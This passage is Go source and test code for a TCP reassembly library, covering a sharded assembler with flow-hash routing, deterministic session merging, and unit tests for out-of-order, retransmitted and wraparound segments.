// TestShardedIdleSplitParity: several flows go quiet past IdleTimeout and
// resume on the same 4-tuple. The Feed-level split must cut each into two
// sessions at the same point on every shard count, even though per-shard
// Advance cadence differs from the serial scan's.
func TestShardedIdleSplitParity(t *testing.T) {
	bld := packet.NewBuilder(23)
	const nFlows = 8
	first := []byte("first-burst")
	second := []byte("second-burst")
	var burstA, burstB [][]edgeStep
	for i := 0; i < nFlows; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", 100+i)), Port: uint16(43000 + i)}
		s := packet.Endpoint{Addr: packet.MustAddr("198.51.100.9"), Port: 8080}
		cseq, sseq := uint32(3000*i+9), uint32(517*(i+1))
		step := func(seg packet.Segment) edgeStep { return edgeStep{seg: seg, dt: 12 * time.Millisecond} }
		burstA = append(burstA, []edgeStep{
			step(packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN}),
			step(packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagPSH | packet.FlagACK, Payload: first}),
		})
		burstB = append(burstB, []edgeStep{
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1 + uint32(len(first)), Ack: sseq + 1, Flags: packet.FlagPSH | packet.FlagACK, Payload: second}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1 + uint32(len(first)+len(second)), Ack: sseq + 1, Flags: packet.FlagFIN | packet.FlagACK}),
		})
	}
	// One shared quiet period between the bursts: every flow's gap exceeds
	// IdleTimeout exactly once, so each must split into exactly two sessions.
	events := buildEdgeEvents(t, bld, burstA)
	resumed := buildEdgeEvents(t, bld, burstB)
	gap := events[len(events)-1].ts.Add(3 * time.Second).Sub(resumed[0].ts)
	for i := range resumed {
		resumed[i].ts = resumed[i].ts.Add(gap)
	}
	events = append(events, resumed...)
	sessions := edgeParity(t, Config{IdleTimeout: 2 * time.Second}, events)
	if len(sessions) != 2*nFlows {
		t.Fatalf("got %d sessions, want %d (each flow split in two)", len(sessions), 2*nFlows)
	}
}

// TestShardedEmitDeliversEveryFullSessionOnce: with Config.Emit set, the
// sharded front-end streams batches out as workers complete sessions; the
// union of all batches must equal the serial output exactly (after imposing
// the canonical order, which streaming emission intentionally gives up), and
// Wait must return nothing.
func TestShardedEmitDeliversEveryFullSessionOnce(t *testing.T) {
	events := genTraffic(t, 5, 48)
	base := Config{IdleTimeout: 2 * time.Second}
	want := serialSessions(t, base, events)

	for _, shards := range []int{1, 4} {
		t.Run(fmt.Sprintf("shards%d", shards), func(t *testing.T) {
			var mu sync.Mutex
			var got []Session
			cfg := base
			cfg.Shards = shards
			cfg.Emit = func(batch []Session) {
				mu.Lock()
				got = append(got, batch...)
				mu.Unlock()
			}
			s := NewSharded(cfg, 1)
			feedSharded(t, s.Feeder(0), events)
			s.Feeder(0).Close()
			if leftover := s.Wait(); len(leftover) != 0 {
				t.Fatalf("Wait returned %d sessions despite Emit", len(leftover))
			}
			sortSessions(got)
			diffSessions(t, got, want)
		})
	}
}

// TestShardedFlowDisjointFeedersParity: partition a capture by FlowShard so
// no connection spans two feeders — the streaming telescope's virtual-segment
// shape — and feed the partitions concurrently with FlowDisjointFeeders set.
// Each partition covers the full capture window, so without the disjoint
// mode's fair shared-queue consumption the strict feeder-order contract would
// deadlock or premature-Advance; with it, the sorted output must still be
// byte-identical to the serial scan.
func TestShardedFlowDisjointFeedersParity(t *testing.T) {
	events := genTraffic(t, 9, 48)
	base := Config{IdleTimeout: 2 * time.Second, Shards: 4}
	want := serialSessions(t, base, events)

	for _, feeders := range []int{1, 3, 8} {
		t.Run(fmt.Sprintf("feeders%d", feeders), func(t *testing.T) {
			parts := make([][]feedEvent, feeders)
			for _, ev := range events {
				p, err := packet.Decode(ev.frame)
				if err != nil {
					t.Fatal(err)
				}
				si := FlowShard(p.Flow(), feeders)
				parts[si] = append(parts[si], ev)
			}
			cfg := base
			cfg.FlowDisjointFeeders = true
			s := NewSharded(cfg, feeders)
			var wg sync.WaitGroup
			for i := 0; i < feeders; i++ {
				wg.Add(1)
				go func(f *Feeder, evs []feedEvent) {
					defer wg.Done()
					feedSharded(t, f, evs)
					f.Close()
				}(s.Feeder(i), parts[i])
			}
			wg.Wait()
			got := s.Wait()
			sortSessions(got)
			diffSessions(t, got, want)
		})
	}
}

func TestFlowShardMatchesInternalRouting(t *testing.T) {
	rng := rand.New(rand.NewSource(13))
	for i := 0; i < 200; i++ {
		f := packet.Flow{
			Src: packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", rng.Intn(256))), Port: uint16(rng.Intn(65536))},
			Dst: packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("198.51.100.%d", rng.Intn(256))), Port: uint16(rng.Intn(65536))},
		}
		for _, n := range []int{1, 3, 8} {
			if got, want := FlowShard(f, n), shardOf(f.Canonical(), n); got != want {
				t.Fatalf("FlowShard(%v, %d) = %d, internal routing %d", f, n, got, want)
			}
			// Both directions of a conversation must land together.
			rev := packet.Flow{Src: f.Dst, Dst: f.Src}
			if FlowShard(f, n) != FlowShard(rev, n) {
				t.Fatalf("flow %v and its reverse map to different shards", f)
			}
		}
	}
}
