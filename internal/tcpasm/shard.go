package tcpasm

import (
	"encoding/binary"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/packet"
)

// Sharded front-end: Config.Shards independent Assemblers, each owned by
// one worker goroutine, fed over bounded channels by one or more decoding
// goroutines (Feeders). The 4-tuple flow key hashes every packet of a
// connection to the same shard, so each shard sees complete conversations
// and the shards never share state on the hot path.
//
// Determinism. Session output is byte-identical to one serial Assembler over
// the same packets, for any shard count, provided capture timestamps are
// non-decreasing in feed order (pcap files are written in capture order):
//
//   - Flow affinity: all packets of a connection land on one shard, in their
//     original relative order (feeders preserve order; workers consume each
//     feeder's queue FIFO, and feeders are consumed in segment order).
//   - Idle handling is content-driven, not schedule-driven: Feed itself
//     splits a connection whose gap reaches IdleTimeout, so the per-shard
//     Advance cadence (which differs from the serial scan's) can only change
//     *when* an idle session is emitted, never its contents.
//   - Merge order is total: sessions are merged and sorted by
//     (End, Start, Client, Server), the same order the serial path uses.
//
// Two usage modes:
//
//	batch scan (N feeders):   feeders Feed until EOF, Close; Wait() merges.
//	streaming (one feeder):   the feeder interleaves Feed with Drain /
//	                          FlushSessions barriers (ingest's idle flushes
//	                          and checkpoints).
type Sharded struct {
	cfg    Config
	shards []*shard
	fdrs   []*Feeder
	pool   sync.Pool // *FeedItem
	wg     sync.WaitGroup

	// openFeeders counts unclosed feeders in flow-disjoint mode; the last
	// Close closes the shared shard queues.
	openFeeders atomic.Int32
}

const (
	// feedBatch is how many packets a feeder accumulates per shard before
	// handing the batch over; batching amortizes channel operations.
	feedBatch = 128
	// queueBatches bounds in-flight batches per (feeder, shard) pair — the
	// backpressure that keeps a fast decoder from outrunning reassembly.
	queueBatches = 32
	// advanceEvery matches the serial scan cadence: each shard reclaims
	// idle-connection memory after this many applied packets.
	advanceEvery = 4096
)

// FeedItem carries one decoded packet from a feeder to a shard worker. The
// feeder fills Buf with the raw frame (reusing its capacity), decodes into
// Pkt — whose payload slices alias Buf — and passes ownership via
// Feeder.Feed. The worker recycles the item once the assembler has copied
// what it retains, so the hot path allocates nothing in steady state.
type FeedItem struct {
	TS  time.Time
	Pkt packet.Packet
	Buf []byte
}

type ctlOp uint8

const (
	opBatch ctlOp = iota
	opAdvance
	opFlush
)

// shardMsg is one unit of work on a shard queue: a packet batch, or a
// control barrier carrying a reply channel.
type shardMsg struct {
	op    ctlOp
	items []*FeedItem
	now   time.Time
	reply chan []Session
}

type shard struct {
	asm *Assembler
	in  []chan shardMsg // one queue per feeder, consumed in feeder order

	open    atomic.Int64  // conns currently tracked (gauge)
	queued  atomic.Int64  // messages sent but not yet applied (gauge)
	packets atomic.Uint64 // packets applied since start

	// Worker-local state.
	applied int       // packets since the last self-advance
	maxTS   time.Time // newest capture timestamp seen
	done    []Session // final sessions, parked for Wait
}

// NewSharded starts cfg.Shards shard workers and creates one Feeder per
// producer (feeders < 1 is treated as 1). Each producer goroutine must own
// exactly one Feeder; producers map to time-ordered capture segments, feeder
// 0 being the earliest.
func NewSharded(cfg Config, feeders int) *Sharded {
	cfg = cfg.withDefaults()
	if feeders < 1 {
		feeders = 1
	}
	s := &Sharded{cfg: cfg}
	s.pool.New = func() any { return &FeedItem{Buf: make([]byte, 0, 2048)} }
	s.openFeeders.Store(int32(feeders))
	for i := 0; i < cfg.Shards; i++ {
		sh := &shard{asm: NewAssembler(cfg)}
		if cfg.FlowDisjointFeeders {
			// One shared queue, consumed fairly: with flow-disjoint
			// feeders no worker may wait on a specific feeder, or a
			// single producer fanning out to the segments deadlocks.
			sh.in = []chan shardMsg{make(chan shardMsg, queueBatches*feeders)}
		} else {
			for f := 0; f < feeders; f++ {
				sh.in = append(sh.in, make(chan shardMsg, queueBatches))
			}
		}
		s.shards = append(s.shards, sh)
	}
	for f := 0; f < feeders; f++ {
		qidx := f
		if cfg.FlowDisjointFeeders {
			qidx = 0
		}
		s.fdrs = append(s.fdrs, &Feeder{s: s, idx: f, qidx: qidx, pend: make([][]*FeedItem, len(s.shards))})
	}
	for _, sh := range s.shards {
		s.wg.Add(1)
		go s.run(sh)
	}
	return s
}

// Feeder returns producer i's feeder handle.
func (s *Sharded) Feeder(i int) *Feeder { return s.fdrs[i] }

// NumShards reports the shard count in effect (after defaulting).
func (s *Sharded) NumShards() int { return len(s.shards) }

// run is one shard worker. Feeder queues are consumed strictly in feeder
// order: feeders map to capture segments in time order, so a flow spanning
// segments is applied in capture order. The priority is identical on every
// shard, which makes the schedule deadlock-free by induction — no worker
// ever parks feeder 0's queue behind another, so feeder 0 always progresses
// and closes, unblocking feeder 1 everywhere, and so on.
func (s *Sharded) run(sh *shard) {
	defer s.wg.Done()
	for f := 0; f < len(sh.in); f++ {
		for msg := range sh.in[f] {
			s.apply(sh, msg)
		}
	}
	sh.asm.Flush()
	out := sh.asm.Sessions()
	if s.cfg.Emit != nil {
		if len(out) > 0 {
			s.cfg.Emit(out)
		}
	} else {
		sh.done = out
	}
	sh.open.Store(0)
}

func (s *Sharded) apply(sh *shard, msg shardMsg) {
	sh.queued.Add(-1)
	switch msg.op {
	case opBatch:
		for _, it := range msg.items {
			if it.TS.After(sh.maxTS) {
				sh.maxTS = it.TS
			}
			sh.asm.Feed(it.TS, &it.Pkt)
			s.pool.Put(it)
		}
		sh.packets.Add(uint64(len(msg.items)))
		sh.applied += len(msg.items)
		if sh.applied >= advanceEvery {
			sh.applied = 0
			// Content-neutral under the Feed-level idle split: this only
			// reclaims memory and emits already-decided sessions early. It
			// requires applied timestamps non-decreasing per shard, which
			// flow-disjoint (mutually unordered) segments do not give —
			// there the horizon would idle out mid-flight connections, so
			// the advance is skipped and undecided sessions wait for the
			// end-of-capture flush.
			if !s.cfg.FlowDisjointFeeders {
				sh.asm.Advance(sh.maxTS)
			}
		}
		putBatch(msg.items)
		if s.cfg.Emit != nil {
			// Streaming emission: hand over whatever this batch completed
			// (closed connections plus anything the periodic Advance decided)
			// so downstream matching overlaps with reassembly and no shard
			// accumulates its whole output.
			if out := sh.asm.Sessions(); len(out) > 0 {
				s.cfg.Emit(out)
			}
		}
	case opAdvance:
		sh.asm.Advance(msg.now)
		if msg.reply != nil {
			msg.reply <- sh.asm.Sessions()
		}
	case opFlush:
		sh.asm.Flush()
		if msg.reply != nil {
			msg.reply <- sh.asm.Sessions()
		}
	}
	sh.open.Store(int64(sh.asm.OpenConns()))
}

// Drain advances every shard's idle horizon to now and returns all sessions
// completed so far in deterministic order — the sharded counterpart of
// Assembler.Drain. Barrier semantics: it blocks until every shard has
// applied everything fed before the call. Streaming mode only: it must be
// called from the goroutine owning the sole feeder.
func (s *Sharded) Drain(now time.Time) []Session {
	return s.barrier(shardMsg{op: opAdvance, now: now})
}

// FlushSessions closes every open connection on every shard and returns the
// completed sessions in deterministic order — the sharded counterpart of
// Assembler.Flush + Sessions. Same calling constraints as Drain.
func (s *Sharded) FlushSessions() []Session {
	return s.barrier(shardMsg{op: opFlush})
}

func (s *Sharded) barrier(msg shardMsg) []Session {
	s.fdrs[0].FlushBatches()
	replies := make([]chan []Session, len(s.shards))
	for i, sh := range s.shards {
		m := msg
		m.reply = make(chan []Session, 1)
		replies[i] = m.reply
		sh.queued.Add(1)
		sh.in[0] <- m
	}
	var out []Session
	for _, r := range replies {
		out = append(out, <-r...)
	}
	sortSessions(out)
	return out
}

// Wait blocks until every shard worker has exited — every Feeder must have
// been Closed first — and returns the merged remaining sessions (open
// connections are flushed at worker exit) in deterministic order.
func (s *Sharded) Wait() []Session {
	s.wg.Wait()
	var out []Session
	for _, sh := range s.shards {
		out = append(out, sh.done...)
		sh.done = nil
	}
	sortSessions(out)
	return out
}

// OpenConns reports connections currently tracked across all shards.
func (s *Sharded) OpenConns() int {
	var n int64
	for _, sh := range s.shards {
		n += sh.open.Load()
	}
	return int(n)
}

// ShardStat is a point-in-time view of one shard, for /metrics.
type ShardStat struct {
	Shard     int
	OpenConns int    // connections the shard is tracking
	Queued    int    // batches and barriers waiting for (or in) the worker
	Packets   uint64 // packets applied since start
}

// ShardStats snapshots every shard. Safe to call from any goroutine.
func (s *Sharded) ShardStats() []ShardStat {
	out := make([]ShardStat, len(s.shards))
	for i, sh := range s.shards {
		out[i] = ShardStat{
			Shard:     i,
			OpenConns: int(sh.open.Load()),
			Queued:    int(sh.queued.Load()),
			Packets:   sh.packets.Load(),
		}
	}
	return out
}

// Feeder is one producer's handle into a Sharded assembler: it routes
// decoded packets to their flow's shard in bounded batches. A Feeder is not
// safe for concurrent use; each producer goroutine owns exactly one.
type Feeder struct {
	s      *Sharded
	idx    int
	qidx   int           // queue index: idx, or 0 when feeders share one queue
	pend   [][]*FeedItem // per-shard batch being accumulated
	closed bool
}

// Get returns a pooled FeedItem to decode the next frame into.
func (f *Feeder) Get() *FeedItem { return f.s.pool.Get().(*FeedItem) }

// Recycle returns an item that will not be fed (EOF, decode error).
func (f *Feeder) Recycle(it *FeedItem) { f.s.pool.Put(it) }

// Feed routes the item to its flow's shard. The item must carry a decoded
// Pkt; ownership passes to the shard worker, which recycles it.
func (f *Feeder) Feed(it *FeedItem) {
	si := shardOf(it.Pkt.Flow().Canonical(), len(f.s.shards))
	b := f.pend[si]
	if b == nil {
		b = getBatch()
	}
	b = append(b, it)
	if len(b) >= feedBatch {
		f.send(si, b)
		b = nil
	}
	f.pend[si] = b
}

func (f *Feeder) send(si int, b []*FeedItem) {
	sh := f.s.shards[si]
	sh.queued.Add(1)
	sh.in[f.qidx] <- shardMsg{op: opBatch, items: b}
}

// FlushBatches pushes every partially-filled batch to its shard, so a
// barrier or an idle pause observes all packets fed so far.
func (f *Feeder) FlushBatches() {
	for si, b := range f.pend {
		if len(b) > 0 {
			f.send(si, b)
			f.pend[si] = nil
		}
	}
}

// Close flushes pending batches and closes this feeder's queues; the Feeder
// must not be used afterwards. Once every feeder has closed, shard workers
// flush their assemblers and exit — collect the results with Wait.
func (f *Feeder) Close() {
	if f.closed {
		return
	}
	f.closed = true
	f.FlushBatches()
	if f.s.cfg.FlowDisjointFeeders {
		// Shared queues close when the last feeder does.
		if f.s.openFeeders.Add(-1) == 0 {
			for _, sh := range f.s.shards {
				close(sh.in[0])
			}
		}
		return
	}
	for _, sh := range f.s.shards {
		close(sh.in[f.idx])
	}
}

// batchPool recycles the item-batch slices flowing between feeders and
// workers.
var batchPool = sync.Pool{New: func() any {
	b := make([]*FeedItem, 0, feedBatch)
	return &b
}}

func getBatch() []*FeedItem {
	return (*batchPool.Get().(*[]*FeedItem))[:0]
}

func putBatch(b []*FeedItem) {
	b = b[:0]
	batchPool.Put(&b)
}

// FlowShard reports which of n shards the sharded front-end assigns the
// given (directed) flow to. Exported so external segment routers — the
// streaming telescope splits synthetic traffic into per-shard capture
// segments — can align their partition with the assembler's and keep every
// packet's decode local to the worker that will reassemble it.
func FlowShard(flow packet.Flow, n int) int {
	return shardOf(flow.Canonical(), n)
}

// shardOf hashes a canonical flow key to a shard with FNV-1a. The hash is
// deterministic across runs, so a capture replays onto the same shard
// layout every time — handy when debugging a single shard's behavior.
func shardOf(key packet.Flow, n int) int {
	if n <= 1 {
		return 0
	}
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	var buf [36]byte
	sa, da := key.Src.Addr.As16(), key.Dst.Addr.As16()
	copy(buf[0:16], sa[:])
	copy(buf[16:32], da[:])
	binary.BigEndian.PutUint16(buf[32:34], key.Src.Port)
	binary.BigEndian.PutUint16(buf[34:36], key.Dst.Port)
	h := uint64(offset64)
	for _, b := range buf {
		h ^= uint64(b)
		h *= prime64
	}
	return int(h % uint64(n))
}
