package tcpasm

import (
	"bytes"
	"math/rand"
	"testing"
	"time"

	"repro/internal/packet"
)

var (
	cli = packet.Endpoint{Addr: packet.MustAddr("192.0.2.10"), Port: 50000}
	srv = packet.Endpoint{Addr: packet.MustAddr("198.51.100.5"), Port: 8080}
)

// flowBuilder produces the segments of a scripted TCP conversation.
type flowBuilder struct {
	t      *testing.T
	b      *packet.Builder
	a      *Assembler
	ts     time.Time
	cliSeq uint32
	srvSeq uint32
}

func newFlow(t *testing.T, a *Assembler) *flowBuilder {
	return &flowBuilder{
		t:      t,
		b:      packet.NewBuilder(42),
		a:      a,
		ts:     time.Date(2022, 6, 3, 12, 0, 0, 0, time.UTC),
		cliSeq: 1000,
		srvSeq: 9000,
	}
}

func (f *flowBuilder) feed(seg packet.Segment) {
	f.t.Helper()
	frame, err := f.b.Build(seg)
	if err != nil {
		f.t.Fatal(err)
	}
	p, err := packet.Decode(frame)
	if err != nil {
		f.t.Fatal(err)
	}
	f.a.Feed(f.ts, p)
	f.ts = f.ts.Add(10 * time.Millisecond)
}

func (f *flowBuilder) handshake() {
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: f.cliSeq, Flags: packet.FlagSYN})
	f.cliSeq++
	f.feed(packet.Segment{Src: srv, Dst: cli, Seq: f.srvSeq, Ack: f.cliSeq, Flags: packet.FlagSYN | packet.FlagACK})
	f.srvSeq++
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: f.cliSeq, Ack: f.srvSeq, Flags: packet.FlagACK})
}

func (f *flowBuilder) clientSend(data []byte) {
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: f.cliSeq, Ack: f.srvSeq, Flags: packet.FlagPSH | packet.FlagACK, Payload: data})
	f.cliSeq += uint32(len(data))
}

func (f *flowBuilder) serverSend(data []byte) {
	f.feed(packet.Segment{Src: srv, Dst: cli, Seq: f.srvSeq, Ack: f.cliSeq, Flags: packet.FlagPSH | packet.FlagACK, Payload: data})
	f.srvSeq += uint32(len(data))
}

func (f *flowBuilder) closeBoth() {
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: f.cliSeq, Ack: f.srvSeq, Flags: packet.FlagFIN | packet.FlagACK})
	f.cliSeq++
	f.feed(packet.Segment{Src: srv, Dst: cli, Seq: f.srvSeq, Ack: f.cliSeq, Flags: packet.FlagFIN | packet.FlagACK})
	f.srvSeq++
}

func (f *flowBuilder) reset() {
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: f.cliSeq, Flags: packet.FlagRST})
}

func singleSession(t *testing.T, a *Assembler) Session {
	t.Helper()
	got := a.Sessions()
	if len(got) != 1 {
		t.Fatalf("got %d sessions, want 1", len(got))
	}
	return got[0]
}

func TestBasicConversation(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend([]byte("GET / HTTP/1.1\r\n"))
	f.clientSend([]byte("Host: x\r\n\r\n"))
	f.serverSend([]byte("HTTP/1.1 200 OK\r\n"))
	f.closeBoth()

	s := singleSession(t, a)
	if s.Client != cli || s.Server != srv {
		t.Errorf("endpoints = %v / %v", s.Client, s.Server)
	}
	if want := "GET / HTTP/1.1\r\nHost: x\r\n\r\n"; string(s.ClientData) != want {
		t.Errorf("ClientData = %q, want %q", s.ClientData, want)
	}
	if want := "HTTP/1.1 200 OK\r\n"; string(s.ServerData) != want {
		t.Errorf("ServerData = %q, want %q", s.ServerData, want)
	}
	if !s.Complete || !s.Closed {
		t.Errorf("Complete=%v Closed=%v, want true/true", s.Complete, s.Closed)
	}
	if a.OpenConns() != 0 {
		t.Errorf("OpenConns = %d after close", a.OpenConns())
	}
}

func TestOutOfOrderReassembly(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	base := f.cliSeq
	// Send segments 2 and 3 before 1.
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: base + 5, Flags: packet.FlagACK, Payload: []byte("world")})
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: base + 10, Flags: packet.FlagACK, Payload: []byte("!")})
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: base, Flags: packet.FlagACK, Payload: []byte("hello")})
	f.cliSeq = base + 11
	f.reset()

	s := singleSession(t, a)
	if want := "helloworld!"; string(s.ClientData) != want {
		t.Errorf("ClientData = %q, want %q", s.ClientData, want)
	}
}

func TestRetransmissionIgnored(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	base := f.cliSeq
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: base, Flags: packet.FlagACK, Payload: []byte("abcde")})
	// Exact retransmission.
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: base, Flags: packet.FlagACK, Payload: []byte("abcde")})
	// Partial overlap carrying new bytes.
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: base + 3, Flags: packet.FlagACK, Payload: []byte("defgh")})
	f.cliSeq = base + 8
	f.reset()

	s := singleSession(t, a)
	if want := "abcdefgh"; string(s.ClientData) != want {
		t.Errorf("ClientData = %q, want %q", s.ClientData, want)
	}
}

func TestMidStreamPickup(t *testing.T) {
	// No handshake captured: assembler anchors at the first data segment.
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: 5555, Flags: packet.FlagACK, Payload: []byte("banner")})
	a.Flush()

	s := singleSession(t, a)
	if string(s.ClientData) != "banner" {
		t.Errorf("ClientData = %q", s.ClientData)
	}
	if s.Complete {
		t.Error("session without handshake marked Complete")
	}
	if s.Closed {
		t.Error("flushed session marked Closed")
	}
}

func TestRSTCloses(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend([]byte("x"))
	f.reset()
	s := singleSession(t, a)
	if !s.Closed {
		t.Error("RST did not close session")
	}
}

func TestIdleTimeout(t *testing.T) {
	a := NewAssembler(Config{IdleTimeout: time.Minute})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend([]byte("probe"))

	a.Advance(f.ts.Add(30 * time.Second))
	if len(a.Sessions()) != 0 {
		t.Fatal("session closed before idle timeout")
	}
	a.Advance(f.ts.Add(2 * time.Minute))
	s := singleSession(t, a)
	if string(s.ClientData) != "probe" {
		t.Errorf("ClientData = %q", s.ClientData)
	}
	if s.Closed {
		t.Error("idle-flushed session marked Closed")
	}
}

func TestStreamByteCap(t *testing.T) {
	a := NewAssembler(Config{MaxStreamBytes: 10})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend(bytes.Repeat([]byte("A"), 8))
	f.clientSend(bytes.Repeat([]byte("B"), 8))
	f.reset()
	s := singleSession(t, a)
	if len(s.ClientData) != 10 {
		t.Errorf("ClientData length = %d, want 10 (capped)", len(s.ClientData))
	}
	if want := "AAAAAAAABB"; string(s.ClientData) != want {
		t.Errorf("ClientData = %q, want %q", s.ClientData, want)
	}
}

func TestSynAckIdentifiesServer(t *testing.T) {
	// Even though packets from both directions arrive, the SYN sender is
	// the client.
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	f.serverSend([]byte("220 smtp ready\r\n"))
	f.clientSend([]byte("EHLO\r\n"))
	f.closeBoth()
	s := singleSession(t, a)
	if s.Client != cli {
		t.Errorf("Client = %v, want %v", s.Client, cli)
	}
	if string(s.ServerData) != "220 smtp ready\r\n" {
		t.Errorf("ServerData = %q", s.ServerData)
	}
}

func TestConcurrentConnections(t *testing.T) {
	a := NewAssembler(Config{})
	b := packet.NewBuilder(1)
	ts := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	const n = 50
	for i := 0; i < n; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr("192.0.2.1"), Port: uint16(40000 + i)}
		feed := func(seg packet.Segment) {
			frame, err := b.Build(seg)
			if err != nil {
				t.Fatal(err)
			}
			p, err := packet.Decode(frame)
			if err != nil {
				t.Fatal(err)
			}
			a.Feed(ts, p)
			ts = ts.Add(time.Millisecond)
		}
		feed(packet.Segment{Src: c, Dst: srv, Seq: 100, Flags: packet.FlagSYN})
		feed(packet.Segment{Src: srv, Dst: c, Seq: 900, Ack: 101, Flags: packet.FlagSYN | packet.FlagACK})
		feed(packet.Segment{Src: c, Dst: srv, Seq: 101, Ack: 901, Flags: packet.FlagACK, Payload: []byte{byte(i)}})
	}
	if a.OpenConns() != n {
		t.Fatalf("OpenConns = %d, want %d", a.OpenConns(), n)
	}
	a.Flush()
	got := a.Sessions()
	if len(got) != n {
		t.Fatalf("sessions = %d, want %d", len(got), n)
	}
	seen := map[uint16]bool{}
	for _, s := range got {
		if len(s.ClientData) != 1 {
			t.Errorf("session %v data = %v", s.Client, s.ClientData)
		}
		seen[s.Client.Port] = true
	}
	if len(seen) != n {
		t.Errorf("distinct client ports = %d, want %d", len(seen), n)
	}
}

func TestSessionsSortedByEnd(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend([]byte("one"))
	f.reset()
	f2 := newFlow(t, a)
	f2.ts = f.ts.Add(time.Hour)
	f2.handshake()
	f2.clientSend([]byte("two"))
	f2.reset()
	got := a.Sessions()
	if len(got) != 2 {
		t.Fatalf("sessions = %d", len(got))
	}
	if !got[0].End.Before(got[1].End) {
		t.Error("sessions not sorted by End")
	}
}

// Property: random segment permutations of a stream reassemble identically
// (within the pending-buffer limit).
func TestShuffledSegmentsProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	msg := []byte("The quick brown fox jumps over the lazy dog 0123456789")
	for trial := 0; trial < 25; trial++ {
		a := NewAssembler(Config{})
		b := packet.NewBuilder(int64(trial))
		ts := time.Unix(1e9, 0)
		feed := func(seg packet.Segment) {
			frame, err := b.Build(seg)
			if err != nil {
				t.Fatal(err)
			}
			p, err := packet.Decode(frame)
			if err != nil {
				t.Fatal(err)
			}
			a.Feed(ts, p)
		}
		feed(packet.Segment{Src: cli, Dst: srv, Seq: 0xffffff00, Flags: packet.FlagSYN}) // wraps seq space
		base := uint32(0xffffff01)

		// Chop into random segments and shuffle.
		type chunk struct {
			off int
			n   int
		}
		var chunks []chunk
		for off := 0; off < len(msg); {
			n := 1 + rng.Intn(9)
			if off+n > len(msg) {
				n = len(msg) - off
			}
			chunks = append(chunks, chunk{off, n})
			off += n
		}
		rng.Shuffle(len(chunks), func(i, j int) { chunks[i], chunks[j] = chunks[j], chunks[i] })
		for _, c := range chunks {
			feed(packet.Segment{Src: cli, Dst: srv, Seq: base + uint32(c.off), Flags: packet.FlagACK, Payload: msg[c.off : c.off+c.n]})
		}
		feed(packet.Segment{Src: cli, Dst: srv, Seq: base + uint32(len(msg)), Flags: packet.FlagRST})

		s := singleSession(t, a)
		if !bytes.Equal(s.ClientData, msg) {
			t.Fatalf("trial %d: reassembled %q, want %q", trial, s.ClientData, msg)
		}
	}
}

func TestSequenceWraparound(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	// SYN near the top of sequence space.
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: 0xfffffffe, Flags: packet.FlagSYN})
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: 0xffffffff, Flags: packet.FlagACK, Payload: []byte("ab")})
	f.feed(packet.Segment{Src: cli, Dst: srv, Seq: 1, Flags: packet.FlagACK, Payload: []byte("cd")})
	a.Flush()
	s := singleSession(t, a)
	if string(s.ClientData) != "abcd" {
		t.Errorf("ClientData = %q, want abcd", s.ClientData)
	}
}

func BenchmarkFeed(b *testing.B) {
	bld := packet.NewBuilder(1)
	frames := make([][]byte, 3)
	var err error
	frames[0], err = bld.Build(packet.Segment{Src: cli, Dst: srv, Seq: 100, Flags: packet.FlagSYN})
	if err != nil {
		b.Fatal(err)
	}
	frames[1], _ = bld.Build(packet.Segment{Src: cli, Dst: srv, Seq: 101, Flags: packet.FlagACK, Payload: bytes.Repeat([]byte("x"), 256)})
	frames[2], _ = bld.Build(packet.Segment{Src: cli, Dst: srv, Seq: 357, Flags: packet.FlagRST})
	pkts := make([]*packet.Packet, len(frames))
	for i, f := range frames {
		p, err := packet.Decode(f)
		if err != nil {
			b.Fatal(err)
		}
		pkts[i] = p
	}
	ts := time.Unix(0, 0)
	a := NewAssembler(Config{})
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, p := range pkts {
			a.Feed(ts, p)
		}
		a.Sessions()
	}
}

func TestDroppedBytesAccounting(t *testing.T) {
	// Stream cap: bytes past MaxStreamBytes are counted, not stored.
	a := NewAssembler(Config{MaxStreamBytes: 10})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend(bytes.Repeat([]byte("A"), 25))
	f.reset()
	s := singleSession(t, a)
	if s.DroppedBytes != 15 {
